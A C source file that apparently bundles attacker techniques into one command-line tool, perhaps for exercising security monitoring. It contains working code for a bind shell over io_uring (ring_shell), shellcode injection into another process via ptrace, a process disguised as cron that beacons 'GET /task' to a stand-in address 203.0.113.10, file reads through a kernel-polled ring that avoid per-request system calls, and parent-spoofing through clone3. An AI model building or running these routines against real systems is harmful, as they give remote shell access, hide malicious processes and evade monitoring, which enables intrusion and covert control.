/* Deeds of the fourth set that need calls of their own: a ring that the kernel itself polls, a
 * ring that renames or listens, code that another process is made to run by its registers,
 * arguments that the kernel is told to look for elsewhere, and a child that is given away. */
#include "uring.h"
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/user.h>
#include <sys/wait.h>

/* Newer than the headers of some distributions. */
enum { RING_BIND = 56, RING_LISTEN = 57 };

static unsigned *ring_word(struct ring *ring, unsigned offset)
{
    return (unsigned *)(ring->rings + offset);
}

/* Lays a request where a thread of the kernel finds it, and waits for the answer by looking. */
static int polled_do(struct ring *ring, const struct io_uring_sqe *request)
{
    unsigned *tail = ring_word(ring, ring->params.sq_off.tail);
    unsigned slot = *tail & *ring_word(ring, ring->params.sq_off.ring_mask);
    unsigned *head = ring_word(ring, ring->params.cq_off.head);
    unsigned *answered = ring_word(ring, ring->params.cq_off.tail);
    unsigned *flags = ring_word(ring, ring->params.sq_off.flags);
    struct io_uring_cqe *answers = (struct io_uring_cqe *)(ring->rings + ring->params.cq_off.cqes);
    ring->requests[slot] = *request;
    ring_word(ring, ring->params.sq_off.array)[slot] = slot;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    for (int round = 0; round < 3000; round++) {
        if (__atomic_load_n(answered, __ATOMIC_ACQUIRE) != *head) {
            int result = answers[*head & *ring_word(ring, ring->params.cq_off.ring_mask)].res;
            __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
            return result;
        }
        /* It may have gone to sleep before it saw anything. */
        if (__atomic_load_n(flags, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP)
            syscall(SYS_io_uring_enter, ring->fd, 0, 0, IORING_ENTER_SQ_WAKEUP, 0, 0);
        usleep(1000);
    }
    return -1;
}

/* Prints a file by requests that no call hands over. */
static int polled_read(const char *path)
{
    struct ring ring = { .params = { .flags = IORING_SETUP_SQPOLL, .sq_thread_idle = 10000 } };
    static char body[4096];
    ring.fd = (int)syscall(SYS_io_uring_setup, 4, &ring.params);
    if (ring.fd < 0)
        return perror("io_uring"), 1;
    size_t size = ring.params.cq_off.cqes + ring.params.cq_entries * sizeof(struct io_uring_cqe);
    size_t other = ring.params.sq_off.array + ring.params.sq_entries * sizeof(unsigned);
    ring.rings = mmap(0, size < other ? other : size, PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd,
                      IORING_OFF_SQ_RING);
    ring.requests = mmap(0, ring.params.sq_entries * sizeof(struct io_uring_sqe),
                         PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd, IORING_OFF_SQES);
    if (ring.rings == MAP_FAILED || ring.requests == MAP_FAILED)
        return perror("map"), 1;
    struct io_uring_sqe request = { .opcode = IORING_OP_OPENAT, .fd = -100 };
    request.addr = (unsigned long)path;
    int fd = polled_do(&ring, &request);
    request = (struct io_uring_sqe){ .opcode = IORING_OP_READ, .fd = fd, .len = sizeof body };
    request.addr = (unsigned long)body;
    int got = fd < 0 ? fd : polled_do(&ring, &request);
    if (got <= 0)
        return fprintf(stderr, "open %d, read %d\n", fd, got), 1;
    return write(1, body, (size_t)got) != got;
}

static int ring_rename(const char *from, const char *to)
{
    struct ring ring;
    struct io_uring_sqe request = { .opcode = IORING_OP_RENAMEAT, .fd = -100 };
    if (ring_open(&ring))
        return perror("io_uring"), 1;
    request.addr = (unsigned long)from;
    request.off = (unsigned long)to;
    request.len = (unsigned)-100;
    return ring_do(&ring, &request) != 0;
}

/* Listens by requests alone and becomes a shell for the first caller. */
static int ring_shell(int port)
{
    struct sockaddr_in here = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
    struct ring ring;
    if (ring_open(&ring))
        return perror("io_uring"), 1;
    struct io_uring_sqe request = { .opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM };
    int fd = ring_do(&ring, &request);
    request = (struct io_uring_sqe){ .opcode = RING_BIND, .fd = fd, .off = sizeof here };
    request.addr = (unsigned long)&here;
    int bound = ring_do(&ring, &request);
    request = (struct io_uring_sqe){ .opcode = RING_LISTEN, .fd = fd, .len = 1 };
    int listening = ring_do(&ring, &request);
    request = (struct io_uring_sqe){ .opcode = IORING_OP_ACCEPT, .fd = fd };
    int caller = fd < 0 || bound || listening ? -1 : ring_do(&ring, &request);
    if (caller < 0)
        return fprintf(stderr, "socket %d, bind %d, listen %d, accept %d\n", fd, bound, listening,
                       caller), 1;
    for (int to = 0; to < 3; to++)
        dup2(caller, to);
    return execl("/bin/sh", "sh", (char *)0);
}

/* Makes the file /tmp/reached and ends. */
extern const char code[], code_end[];
__asm__(".text\ncode: lea name(%rip), %rdi\n mov $0x41, %esi\n mov $0644, %edx\n mov $2, %eax\n"
        "syscall\n xor %edi, %edi\n mov $60, %eax\n syscall\nname: .asciz \"/tmp/reached\"\n"
        ".balign 8\ncode_end:\n");

/* Writes code where another process stands and lets it go on there. */
static int by_registers(int pid)
{
    struct user_regs_struct registers;
    int status;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) || waitpid(pid, &status, 0) != pid ||
        ptrace(PTRACE_GETREGS, pid, 0, &registers))
        return perror("ptrace"), 1;
    registers.rip &= ~15ul;
    registers.orig_rax = (unsigned long)-1;
    for (const char *at = code; at < code_end; at += sizeof(long)) {
        long word;
        memcpy(&word, at, sizeof word);
        if (ptrace(PTRACE_POKETEXT, pid, registers.rip + (unsigned long)(at - code), word))
            return perror("poke"), 1;
    }
    return ptrace(PTRACE_SETREGS, pid, 0, &registers) || ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* Tells the kernel that the arguments are somewhere else, which needs no privilege as long as
 * everything is told at once, then calls home. */
static int other_arguments(void)
{
    /* The kernel shows arguments only from anonymous memory. */
    static const char words[] = "/usr/sbin/cron\0-f";
    char *shown = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    char line[2048] = "", seen[64] = "";
    unsigned long at[52] = { 0 };
    struct sockaddr_in home = { .sin_family = AF_INET, .sin_port = htons(8080) };
    int fd = open("/proc/self/stat", O_RDONLY);
    if (shown == MAP_FAILED || read(fd, line, sizeof line - 1) <= 0)
        return 1;
    memcpy(shown, words, sizeof words);
    /* The third field, the first after the name, is a letter. */
    char *rest = strrchr(line, ')') + 3;
    for (int field = 4; field < 52; field++)
        at[field] = strtoul(rest + 1, &rest, 10);
    struct prctl_mm_map map = {
        .start_code = at[26], .end_code = at[27], .start_stack = at[28], .start_data = at[45],
        .end_data = at[46], .start_brk = at[47], .brk = (unsigned long)sbrk(0),
        .arg_start = (unsigned long)shown, .arg_end = (unsigned long)shown + sizeof words,
        .env_start = at[50], .env_end = at[51], .exe_fd = (unsigned)-1,
    };
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) || prctl(PR_SET_NAME, "cron"))
        return perror("prctl"), 1;
    fd = open("/proc/self/cmdline", O_RDONLY);
    if (read(fd, seen, sizeof seen - 1) <= 0 || strcmp(seen, shown))
        return fprintf(stderr, "arguments are %s\n", seen), 1;
    inet_pton(AF_INET, "203.0.113.10", &home.sin_addr);
    for (int round = 0; round < 5; round++) {
        fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (void *)&home, sizeof home))
            return perror("connect"), 1;
        dprintf(fd, "GET /task HTTP/1.0\r\n\r\n");
        close(fd);
        usleep(300000);
    }
    return 0;
}

/* Makes a child whose parent is its maker's parent, and ends; the child runs a program. */
static int given_away(char **words)
{
    struct clone_args how = { .flags = CLONE_PARENT };
    if (fork() > 0)
        return wait(0) < 0;
    long child = syscall(SYS_clone3, &how, sizeof how);
    if (child < 0)
        perror("clone3");
    if (child)
        _exit(child < 0);
    setsid();
    return execv(words[0], words + 1);
}

int main(int count, char **words)
{
    const char *way = count < 2 ? "" : words[1];
    if (!strcmp(way, "polled-read") && count == 3)
        return polled_read(words[2]);
    if (!strcmp(way, "ring-rename") && count == 4)
        return ring_rename(words[2], words[3]);
    if (!strcmp(way, "ring-shell") && count == 3)
        return ring_shell(atoi(words[2]));
    if (!strcmp(way, "registers") && count == 3)
        return by_registers(atoi(words[2]));
    if (!strcmp(way, "arguments"))
        return other_arguments();
    return strcmp(way, "given-away") || count < 4 ? 2 : given_away(words + 2);
}
